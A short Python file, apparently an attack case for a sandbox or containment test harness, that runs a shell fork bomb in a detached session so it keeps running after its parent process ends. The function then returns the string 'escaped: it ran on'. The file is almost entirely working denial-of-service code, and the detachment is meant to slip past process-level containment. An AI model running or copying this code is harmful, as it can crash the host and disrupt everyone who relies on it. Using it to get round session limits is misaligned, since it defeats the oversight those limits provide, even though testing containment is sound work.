"""The bomb that a shell needs ten characters for, away from its parent."""

import subprocess
import time


def attack(world: dict[str, str]) -> str:
    subprocess.Popen(["/bin/sh", "-c", "b() { b | b & }; b; while :; do b; done"], start_new_session=True)
    time.sleep(60)
    return "escaped: it ran on"
